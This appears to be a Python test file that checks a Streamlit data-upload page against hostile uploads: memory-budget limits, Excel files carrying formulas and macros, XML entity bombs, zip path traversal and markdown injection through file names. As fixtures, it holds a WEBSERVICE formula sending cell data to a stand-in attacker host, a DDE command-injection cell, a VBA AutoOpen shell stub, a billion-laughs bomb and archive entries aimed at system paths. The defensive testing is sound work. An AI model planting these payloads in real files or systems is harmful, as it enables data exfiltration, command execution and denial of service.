"""Hostile and messy uploads: size and memory limits, Excel that carries more than values, stored names."""

from __future__ import annotations

import io
import json
import re
import tomllib
import tracemalloc
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import storage
from pipeline_core.errors import DataError
from pipeline_core.io.readers import read_table
from pipeline_core.io.safety import check_zip_safety
from tests.apptest import REPO, open_page, texts
from tests.security.conftest import HOSTILE

PAGE = "pages/data.py"
BUDGET_MESSAGE = r"would take about [\d.,]+ [KMG]?B in memory, more than the [\d.,]+ [KMG]?B budget"


def xlsx_bytes(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.to_excel(buffer, index=False, sheet_name="data")
    return buffer.getvalue()


def rewrite_zip(data: bytes, edit: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """A copy of an archive with some entries replaced (or dropped with ``None``) and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in edit:
                if edit[info.filename] is not None:
                    target.writestr(info.filename, edit[info.filename])
            else:
                target.writestr(info, source.read(info))
        for name, payload in (add or {}).items():
            target.writestr(name, payload)
    return out.getvalue()


def wide_rows(n: int) -> pd.DataFrame:
    return pd.DataFrame({"id": range(n), "score": [i * 0.5 for i in range(n)], "text": ["some words here"] * n})


# ---------------------------------------------------------------- size limits


def test_streamlit_caps_the_upload_size():
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    limit = config["server"]["maxUploadSize"]
    assert isinstance(limit, int) and 1 <= limit <= 200  # MB, as the README documents


def as_csv(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def as_jsonl(frame: pd.DataFrame) -> bytes:
    return frame.to_json(orient="records", lines=True).encode()


def as_json(frame: pd.DataFrame) -> bytes:
    return frame.to_json(orient="records").encode()


def as_parquet(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.to_parquet(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("encode", [as_csv, as_jsonl, as_json, as_parquet, xlsx_bytes],
                         ids=["csv", "jsonl", "json", "parquet", "xlsx"])
def test_every_format_over_the_memory_budget_is_refused_with_the_numbers(encode):
    data = encode(wide_rows(20_000))
    with pytest.raises(DataError, match=BUDGET_MESSAGE):
        read_table(data, "big.bin", memory_budget_bytes=100 * 1024)
    assert len(read_table(data, "big.bin", memory_budget_bytes=200 * 2**20).frame) == 20_000


def test_the_budget_refuses_a_large_csv_before_parsing_it():
    data = as_csv(wide_rows(600_000))  # ~17 MB of text; parsed, well over 50 MB
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match=BUDGET_MESSAGE):
            read_table(data, "big.csv", memory_budget_bytes=2**20)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < len(data) / 4, f"{peak:,} bytes allocated to refuse a {len(data):,}-byte file"


def test_the_data_page_refuses_a_file_over_the_configured_budget(store, studio, monkeypatch):
    monkeypatch.setenv("PIPELINE_STUDIO_MEMORY_BUDGET_MB", "0.1")
    at = open_page(PAGE)
    at.file_uploader(key="data_upload").upload("big.csv", as_csv(wide_rows(20_000)), "text/csv")
    at.run()
    assert not at.exception
    assert re.search(BUDGET_MESSAGE, texts(at, "error"))
    assert "PIPELINE_STUDIO_MEMORY_BUDGET_MB" in texts(at, "error")
    assert storage.list_datasets(store) == []


# ---------------------------------------------------------------- Excel carries values only

SHEET_WITH_FORMULAS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="B1" t="inlineStr"><is><t>b</t></is></c>'
    b'<c r="C1" t="inlineStr"><is><t>total</t></is></c><c r="D1" t="inlineStr"><is><t>fetched</t></is></c></row>'
    b'<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v></c><c r="C2"><f>A2+B2</f><v>3</v></c>'
    b'<c r="D2" t="str"><f>WEBSERVICE("http://attacker.invalid/?"&amp;A2)</f><v>cached</v></c></row>'
    b'<row r="3"><c r="A3"><v>4</v></c><c r="B3"><v>5</v></c><c r="C3"><f>A3+B3</f><v>9</v></c>'
    b'<c r="D3" t="str"><f>cmd|\' /C calc\'!A0</f><v>dde</v></c></row>'
    b"</sheetData></worksheet>"
)


def macro_workbook() -> bytes:
    """An .xlsm-shaped workbook: formulas with cached values, and a VBA project part."""
    base = xlsx_bytes(pd.DataFrame({"placeholder": [0]}))
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
        rels = archive.read("xl/_rels/workbook.xml.rels")
    types = types.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = types.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                       b"</Types>")
    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Target="vbaProject.bin" '
                                             b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
                                             b"</Relationships>")
    return rewrite_zip(base, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels,
                              "xl/worksheets/sheet1.xml": SHEET_WITH_FORMULAS},
                       add={"xl/vbaProject.bin": b"Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nShell \"calc\"\n"})


def test_excel_gives_cached_values_never_formulas_and_ignores_macros():
    result = read_table(macro_workbook(), "invoice.xlsm")
    assert result.format == "excel"
    assert result.frame["total"].tolist() == [3, 9]
    assert result.frame["fetched"].tolist() == ["cached", "dde"]
    cells = [str(v) for v in result.frame.to_numpy().ravel()]
    assert not any(v.startswith("=") or "WEBSERVICE" in v or "calc" in v for v in cells)


def test_an_xml_entity_bomb_inside_a_workbook_is_refused():
    base = xlsx_bytes(pd.DataFrame({"a": [1, 2]}))
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        workbook = archive.read("xl/workbook.xml")
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    body = workbook.split(b"?>", 1)[-1]  # openpyxl may or may not write an XML declaration
    bomb = f"<!DOCTYPE lolz [{entities}]>".encode() + body.replace(b"<sheets>", b"<sheets>&lol9;")
    with pytest.raises(DataError, match="could not be opened as an Excel workbook"):
        read_table(rewrite_zip(base, {"xl/workbook.xml": bomb}), "laughs.xlsx")


@pytest.mark.parametrize("entry", ["..\\..\\evil.bat", "/etc/cron.d/evil", "C:/Windows/evil.dll", "xl/../../evil"])
def test_archive_entries_that_point_outside_are_refused(entry):
    data = rewrite_zip(xlsx_bytes(pd.DataFrame({"a": [1]})), {}, add={entry: b"x"})
    with pytest.raises(DataError, match="unsafe entry"):
        check_zip_safety(data, "book.xlsx")


# ---------------------------------------------------------------- CSV dialects as the user sees them


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_is_detected(codec):
    result = read_table("name,city\ncafé,Zürich\nnaïve,Köln\n".encode(codec), "x.csv")
    assert result.encoding == codec
    assert result.frame["city"].tolist() == ["Zürich", "Köln"]


def test_the_detected_delimiter_is_shown_and_can_be_changed(store, studio):
    at = open_page(PAGE)
    at.file_uploader(key="data_upload").upload("semi.csv", b"a;b;c\n1;2;x\n3;4;y\n", "text/csv")
    at.run()
    assert not at.exception
    assert "Detected semicolon ';' as the column delimiter" in texts(at, "info")
    assert storage.get_dataset(store, at.session_state["dataset_id"]).n_columns == 3
    at.selectbox(key="data_delimiter").set_value(",").run()
    assert not at.exception
    reread = storage.get_dataset(store, at.session_state["dataset_id"])
    assert [c["name"] for c in reread.columns] == ["a;b;c"]  # the user's choice wins over detection


def test_renamed_columns_are_shown_on_the_page(store, studio):
    at = open_page(PAGE)
    at.file_uploader(key="data_upload").upload("dup.csv", b"Unnamed: 0,x,x,\n0,1,2,3\n", "text/csv")
    at.run()
    assert not at.exception
    assert "Renamed 3 column(s)" in texts(at, "info")
    dataset = storage.get_dataset(store, at.session_state["dataset_id"])
    assert [c["name"] for c in dataset.columns] == ["column_1", "x", "x_2", "column_4"]


# ---------------------------------------------------------------- stored names


def test_stored_file_names_are_generated_from_the_content_not_the_upload(store, studio, tmp_path):
    at = open_page(PAGE)
    at.file_uploader(key="data_upload").upload("../../../escape.csv", b"a,b\n1,2\n", "text/csv")
    at.run()
    assert not at.exception
    dataset = storage.get_dataset(store, at.session_state["dataset_id"])
    assert re.fullmatch(r"datasets/[0-9a-f]{64}\.parquet", dataset.parquet_path)
    stored = sorted(p.relative_to(studio).as_posix() for p in studio.rglob("*") if p.is_file())
    assert set(stored) - {"studio.db", "studio.db-wal", "studio.db-shm"} == {dataset.parquet_path}
    assert not list(tmp_path.glob("escape*")) and not list(Path("/").glob("escape.csv*"))
    assert dataset.file_name == "../../../escape.csv"  # kept only to be displayed


def markdown_bodies(at) -> list[str]:
    bodies = [m.value for m in at.markdown] + [s.value for s in at.success] + [c.value for c in at.caption]
    return bodies


def test_the_uploaded_file_name_is_displayed_escaped(store, studio):
    name = f"![x](https://attacker.invalid/p.png) [click](https://attacker.invalid) {HOSTILE}.csv"
    at = open_page(PAGE)
    at.file_uploader(key="data_upload").upload(name, b"a,b\n1,2\n", "text/csv")
    at.run()
    assert not at.exception
    shown = [b for b in markdown_bodies(at) if "attacker" in b]
    assert shown, "the file name should be displayed"
    for body in shown:
        assert "](https://attacker" not in body and "![x]" not in body, body  # no image or link can form
        assert not re.search(r"(?<!\\)<img", body), body  # shown as text, never as a tag
    assert all(not m.proto.allow_html for m in at.markdown)
    assert json.dumps(storage.list_datasets(store)[0].file_name) == json.dumps(name)
